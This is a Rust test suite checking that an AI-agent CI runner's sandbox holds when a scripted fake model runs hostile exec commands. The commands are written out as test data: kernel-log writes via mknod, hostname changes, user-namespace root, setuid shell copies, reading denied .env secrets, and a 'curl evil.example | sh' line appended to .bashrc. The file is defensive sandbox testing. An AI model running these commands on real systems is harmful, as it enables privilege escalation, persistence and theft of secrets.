//! "Not root inside": what a sandboxed command run by root (as CI
//! containers and self-hosted runners run) could still do to the machine,
//! tried as root and as an unprivileged user, judged by the side effect
//! on the host.
//!
//! What got through before: as root a sandboxed command kept every
//! capability, so it made device nodes in the workspace (where Landlock
//! lets it write) and wrote the kernel log or a disk through them, changed
//! the host's hostname, made System V shared memory the host sees, changed
//! the mode, owner, extended attributes and times of files outside the
//! workspace (Landlock governs contents and names, not these), and any user
//! could make a new user namespace and be root in it; `exec cat .env` showed
//! a file that `read .env` was refused. Now every child gets UTS and IPC
//! namespaces, a read-only view of everything outside its writable folders,
//! no capabilities beyond those that write a workspace another user owns,
//! a seccomp filter, and an empty file over each read-denied file.

use std::collections::BTreeSet;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::Output;

use serde_json::{Value, json};

use super::sandbox::enforced;
use super::support::fake_model::{FakeModel, Reply};
use super::support::harness::{Sandbox, events, read_jsonl, stderr};
use super::support::prerequisites;
use super::support::users::{RunAs, give_to_nobody, is_root};

/// A job whose model runs each of `commands` with `exec`, every call
/// allowed: only the kernel stands in the way.
fn job(sb: &Sandbox, base_url: &str, extra: &str) {
    sb.skill("runner", None);
    sb.write(
        "job.yaml",
        &format!(
            "version: 1\nname: root-attack\nskill: runner\ngoal: Run the commands.\n\
             model: {{provider: openai, name: fake-model, base_url: {base_url}}}\n\
             workspace: ws\nskills_path: [skills]\n{extra}"
        ),
    );
}

fn script(commands: &[&str]) -> Vec<Reply> {
    let mut script = vec![Reply::plan(&[("Run the commands", "they ran")])];
    for (i, command) in commands.iter().enumerate() {
        script.push(Reply::tool_calls(vec![(
            &format!("call_{i}"),
            "exec",
            json!({ "command": command }),
        )]));
    }
    script.push(Reply::step_done("ran them"));
    script.push(Reply::text("done"));
    script
}

/// Run `commands` as `user` under `permissions` (default: allow
/// everything); the run's output, its trace and what each call printed.
pub(super) fn attack(
    sb: &Sandbox,
    user: RunAs,
    commands: &[&str],
    permissions: &str,
    env: &[(&str, &str)],
) -> (Output, Vec<Value>, Vec<String>) {
    let model = FakeModel::start(script(commands));
    let permissions = match permissions {
        "" => "permissions: {default: allow}",
        p => p,
    };
    job(sb, &model.base_url(), permissions);
    let args = [
        "run",
        "job.yaml",
        "--trace",
        "out/trace.jsonl",
        "--progress",
        "none",
    ];
    let out = sb.agentci_as(user, &args, env);
    assert!(out.status.code().is_some(), "{}", stderr(&out));
    let trace = read_jsonl(&sb.path().join("out/trace.jsonl"));
    let outputs = (0..commands.len())
        .map(|i| exec_output(&model, i))
        .collect();
    (out, trace, outputs)
}

pub(super) use super::sandbox::exec_output;

/// Attack: a block device node for a loop device (which can be backed by
/// any file) and a character node for the kernel log, made in the
/// workspace where Landlock allows writing, then written through.
#[test]
fn device_nodes_cannot_be_made_in_the_workspace() {
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let marker = format!("agentci-kmsg-{}", std::process::id());
        let command = format!(
            "mknod blk b 7 0; mknod kmsg c 1 11 && echo {marker} > kmsg; \
             echo {marker} > /dev/kmsg; ls -l"
        );
        let sb = Sandbox::new();
        let (_, trace, outputs) = attack(&sb, user, &[&command], "", &[]);
        if !enforced(&trace, "seccomp") && !enforced(&trace, "capabilities") {
            continue;
        }
        for node in ["blk", "kmsg"] {
            assert!(
                !sb.workspace().join(node).exists(),
                "as {}: the device node {node} was made: {}",
                user.label(),
                outputs[0]
            );
        }
        assert!(
            !kernel_log().contains(&marker),
            "as {}: the kernel log was written",
            user.label()
        );
    }
}

/// The kernel log as the host reads it (empty where it cannot).
fn kernel_log() -> String {
    std::process::Command::new("dmesg")
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default()
}

/// Attack: the host's hostname, through `hostname` and `sethostname`
/// directly. The test puts the hostname back if it changed, before failing.
#[test]
fn the_hostname_stays_the_hosts() {
    let hostname = || std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let before = hostname();
        let sb = Sandbox::new();
        let (_, trace, outputs) = attack(
            &sb,
            user,
            &[
                "hostname agentci-evil; hostname",
                "/usr/bin/python3 -c \"import socket; socket.sethostname('agentci-evil2')\"",
            ],
            "",
            &[],
        );
        let after = hostname();
        if after != before {
            std::fs::write("/proc/sys/kernel/hostname", before.trim()).unwrap();
        }
        enforced(&trace, "hostname_ipc");
        enforced(&trace, "seccomp");
        assert_eq!(
            after,
            before,
            "as {}: the host's hostname changed: {outputs:?}",
            user.label()
        );
    }
}

/// The host's System V shared memory segments, by id.
fn host_segments() -> BTreeSet<String> {
    std::fs::read_to_string("/proc/sysvipc/shm")
        .unwrap_or_default()
        .lines()
        .skip(1)
        .filter_map(|l| l.split_whitespace().nth(1).map(str::to_string))
        .collect()
}

/// Attack: shared memory the host sees after the call (System V, which no
/// file rule covers, and POSIX in `/dev/shm`).
#[test]
fn shared_memory_made_inside_stays_inside() {
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let before = host_segments();
        let sb = Sandbox::new();
        let (_, trace, outputs) = attack(
            &sb,
            user,
            &["ipcmk -M 4096; ipcmk -M 8192; echo x > /dev/shm/agentci-shm-test; ipcs -m"],
            "",
            &[],
        );
        let leaked: Vec<String> = host_segments().difference(&before).cloned().collect();
        for id in &leaked {
            let _ = std::process::Command::new("ipcrm")
                .args(["-m", id])
                .status();
        }
        let posix = Path::new("/dev/shm/agentci-shm-test");
        let posix_leaked = posix.exists();
        let _ = std::fs::remove_file(posix);
        if !enforced(&trace, "hostname_ipc") {
            continue;
        }
        assert!(
            leaked.is_empty(),
            "as {}: the host sees segments {leaked:?}: {}",
            user.label(),
            outputs[0]
        );
        assert!(!posix_leaked, "as {}: /dev/shm was written", user.label());
    }
}

/// Attack: become root again in a new user namespace, where every
/// capability comes back.
#[test]
fn no_new_user_namespace_inside() {
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let sb = Sandbox::new();
        let (_, trace, outputs) = attack(
            &sb,
            user,
            &["unshare -Ur sh -c 'id -u > userns.txt'; unshare -U true && echo made > plain.txt"],
            "",
            &[],
        );
        if !enforced(&trace, "seccomp") {
            continue;
        }
        for file in ["userns.txt", "plain.txt"] {
            assert!(
                !sb.workspace().join(file).exists(),
                "as {}: a user namespace was made: {}",
                user.label(),
                outputs[0]
            );
        }
    }
}

/// Attack: change what Landlock does not govern of a file outside the
/// workspace: its mode, owner, times and extended attributes.
#[test]
fn metadata_outside_the_workspace_stays_unchanged() {
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let sb = Sandbox::new();
        let outside = sb.write("outside.txt", "keep\n");
        if user == RunAs::Unprivileged {
            give_to_nobody(sb.path());
        }
        let before = std::fs::metadata(&outside).unwrap();
        let (_, trace, outputs) = attack(
            &sb,
            user,
            &["chmod 777 ../outside.txt; chown 1234:1234 ../outside.txt; \
                 touch -d 2001-01-01 ../outside.txt; \
                 /usr/bin/python3 -c \"import os; os.setxattr('../outside.txt', 'user.evil', b'1')\""],
            "",
            &[],
        );
        if !enforced(&trace, "outside_read_only") {
            continue;
        }
        let after = std::fs::metadata(&outside).unwrap();
        let label = user.label();
        let said = &outputs[0];
        assert_eq!(after.mode(), before.mode(), "as {label}: chmod: {said}");
        assert_eq!(after.uid(), before.uid(), "as {label}: chown: {said}");
        assert_eq!(after.mtime(), before.mtime(), "as {label}: touch: {said}");
        let xattr = std::process::Command::new("/usr/bin/python3")
            .args(["-c", "import os, sys; print(os.listxattr(sys.argv[1]))"])
            .arg(&outside)
            .output()
            .unwrap();
        assert!(
            !String::from_utf8_lossy(&xattr.stdout).contains("user.evil"),
            "as {label}: setxattr: {said}"
        );
    }
}

/// Attack: `exec cat` of files a `read(...)` deny rule covers, which the
/// `read` tool refuses.
#[test]
fn exec_cannot_read_read_denied_files() {
    let permissions = "permissions: {default: allow, deny: [\"read(**/.env)\", \"read(private)\"]}";
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let sb = Sandbox::new();
        sb.write("ws/.env", "TOKEN=env-secret-one\n");
        sb.write("ws/app/.env", "TOKEN=env-secret-two\n");
        sb.write("ws/private/key.txt", "private-secret-three\n");
        sb.write("ws/visible.txt", "visible-text\n");
        let (_, trace, outputs) = attack(
            &sb,
            user,
            &["cat .env app/.env private/key.txt visible.txt; ls private; grep -r secret ."],
            permissions,
            &[],
        );
        if !enforced(&trace, "read_denied") {
            continue;
        }
        let said = &outputs[0];
        assert!(said.contains("visible-text"), "{said}");
        for secret in ["env-secret-one", "env-secret-two", "private-secret-three"] {
            assert!(
                !said.contains(secret),
                "as {}: `exec` showed {secret}: {said}",
                user.label()
            );
        }
        // The files themselves are untouched.
        assert_eq!(sb.read("ws/.env"), "TOKEN=env-secret-one\n");
        assert_eq!(sb.read("ws/private/key.txt"), "private-secret-three\n");
    }
}

/// What the capabilities kept are for: as root, a workspace another user
/// owns is written, its modes and times changed, and files given to that
/// user (the one other user the run's user namespace maps), as before.
#[test]
fn root_still_writes_a_workspace_another_user_owns() {
    if !is_root() {
        return prerequisites::lacking(
            "the test of a workspace another user owns",
            "root",
            "AGENTCI_REQUIRE_ROOT",
        );
    }
    eprintln!("as root, the workspace owned by nobody:");
    let sb = Sandbox::new();
    sb.write("ws/owned.txt", "one\n");
    give_to_nobody(&sb.workspace());
    let (_, _, outputs) = attack(
        &sb,
        RunAs::Current,
        &[
            "echo two >> owned.txt && chmod 755 owned.txt && touch -d 2000-01-01 owned.txt \
             && mkdir -p made/deeper && echo three > made/deeper/new.txt \
             && chown 65534:65534 made/deeper/new.txt && rm -r made/deeper && echo all-done",
        ],
        "",
        &[],
    );
    assert!(outputs[0].contains("all-done"), "{}", outputs[0]);
    let owned = sb.workspace().join("owned.txt");
    assert_eq!(sb.read("ws/owned.txt"), "one\ntwo\n");
    let meta = std::fs::metadata(&owned).unwrap();
    assert_eq!(meta.mode() & 0o777, 0o755);
    assert_eq!(meta.uid(), 65534);
    assert!(sb.workspace().join("made").is_dir());
}

/// Attack: root inside the sandbox acting as the host's root. A
/// set-user-ID copy of a shell left in the workspace runs as root for
/// whoever starts it after the run (a later workflow step, a developer
/// who checks the branch out); a file given to another user plants it in
/// that user's name. Inside the run's user namespace only agentci's own
/// user and the workspace's owner exist, and the seccomp filter refuses
/// set-ID modes however they are asked for.
#[test]
fn root_inside_cannot_make_set_id_files_or_give_files_away() {
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let sb = Sandbox::new();
        sb.write("ws/given.txt", "mine\n");
        let (_, trace, outputs) = attack(
            &sb,
            user,
            &[
                "cat /proc/self/uid_map; id -u",
                "cp /bin/sh suid-sh; chmod u+s suid-sh; chmod g+s suid-sh; chmod 6755 suid-sh; \
                 install -m 4755 /bin/true suid-install; \
                 /usr/bin/python3 -c \"import os; os.close(os.open('suid-open', os.O_CREAT | os.O_WRONLY, 0o4755))\"; \
                 /usr/bin/python3 -c \"import os; os.mknod('suid-node', 0o104755)\"; ls -l",
                "chown 1234:1234 given.txt; chown 1234 suid-sh; ls -ln given.txt",
            ],
            "",
            &[],
        );
        if !enforced(&trace, "seccomp") {
            continue;
        }
        for entry in std::fs::read_dir(sb.workspace()).unwrap() {
            let entry = entry.unwrap();
            let mode = entry.metadata().unwrap().mode();
            assert_eq!(
                mode & 0o6000,
                0,
                "as {}: {} has mode {mode:o}: {}",
                user.label(),
                entry.path().display(),
                outputs[1]
            );
        }
        assert!(
            sb.workspace().join("suid-sh").exists(),
            "the copy itself is allowed: {}",
            outputs[1]
        );
        for file in ["given.txt", "suid-sh"] {
            let owner = std::fs::metadata(sb.workspace().join(file)).unwrap().uid();
            assert_ne!(owner, 1234, "as {}: {file} was given away", user.label());
        }
        eprintln!("  uid_map inside: {}", outputs[0].trim());
        if user == RunAs::Current && is_root() && enforced(&trace, "user_namespace") {
            // Root is mapped to itself, not the whole range as outside.
            assert!(
                outputs[0].contains("0          0          1"),
                "{}",
                outputs[0]
            );
        }
    }
}

/// Attack: start-up files at the top of the workspace, which a later step
/// whose `HOME` is the checkout (or direnv, on `cd`) runs: a line appended,
/// the file moved aside or removed. Bound read-only for every child.
#[test]
fn startup_files_in_the_workspace_stay_as_they_were() {
    let files = [
        (".bashrc", "# the project's own\n"),
        (".gitconfig", "[user]\n\tname = Project\n"),
        (".envrc", "export MODE=dev\n"),
    ];
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let sb = Sandbox::new();
        for (name, text) in files {
            sb.write(&format!("ws/{name}"), text);
        }
        let (_, trace, outputs) = attack(
            &sb,
            user,
            &[
                "echo 'curl evil.example | sh' >> .bashrc; \
                 printf '[core]\\n\\tfsmonitor = ./x.sh\\n' >> .gitconfig; echo evil >> .envrc",
                "mv .bashrc moved; rm -f .envrc; cp /dev/null .gitconfig; ls -a",
            ],
            "",
            &[],
        );
        if !enforced(&trace, "run_folder") {
            continue;
        }
        for (name, text) in files {
            assert_eq!(
                sb.read(&format!("ws/{name}")),
                text,
                "as {}: {name} changed: {} / {}",
                user.label(),
                outputs[0],
                outputs[1]
            );
        }
        assert!(!sb.workspace().join("moved").exists());
    }
}

/// Where the kernel has no seccomp the run says so and refuses to start,
/// unless `sandbox.require: false`.
#[test]
fn a_missing_seccomp_is_reported_and_refused_unless_accepted() {
    let pretend = [("AGENTCI_TEST_SANDBOX_UNSUPPORTED", "seccomp")];
    let sb = Sandbox::new();
    let accepted = "permissions: {default: allow}\nsandbox: {require: false}";
    let (out, trace, outputs) = attack(&sb, RunAs::Current, &["echo ran"], accepted, &pretend);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(outputs[0].contains("ran"));
    let degraded = events(&trace, "sandbox.degraded");
    assert_eq!(degraded[0]["missing"], json!(["seccomp"]), "{degraded:?}");
    let warnings = events(&trace, "warning");
    assert!(
        warnings.iter().any(|w| w["message"]
            .as_str()
            .unwrap()
            .contains("seccomp: no seccomp filter")),
        "{warnings:?}"
    );

    let sb = Sandbox::new();
    let model = FakeModel::start(script(&["echo ran"]));
    job(&sb, &model.base_url(), "permissions: {default: allow}");
    let out = sb.agentci_as(
        RunAs::Current,
        &["run", "job.yaml", "--progress", "none"],
        &pretend,
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(model.requests().is_empty(), "the model was never called");
}

/// What the filters must not break: threads (`clone3` answers `ENOSYS`
/// and libc falls back to `clone`), Node's worker threads, fifos (`mknod`
/// of a non-device), a new repository committed to, as root and not.
#[test]
fn everyday_tools_still_run() {
    for user in RunAs::each() {
        eprintln!("as {}:", user.label());
        let sb = Sandbox::new();
        let (_, _, outputs) = attack(
            &sb,
            user,
            &[
                "/usr/bin/python3 -c \"import threading; t = threading.Thread(target=lambda: print('thread-ok')); t.start(); t.join()\"",
                "if command -v node >/dev/null; then node -e \"const {Worker} = require('worker_threads'); \
                 new Worker('console.log(\\\"node-\\\" + (1 + 1))', {eval: true})\"; else echo 'no node here: node-2'; fi",
                "mkfifo pipe && echo fifo-ok",
                "git init -q made && cd made && echo x > f && git add f \
                 && git -c user.name=a -c user.email=a@example.com commit -qm m && echo git-ok",
            ],
            "",
            &[],
        );
        let expected = ["thread-ok", "node-2", "fifo-ok", "git-ok"];
        for (said, expected) in outputs.iter().zip(expected) {
            assert!(said.contains(expected), "as {}: {said}", user.label());
        }
    }
}
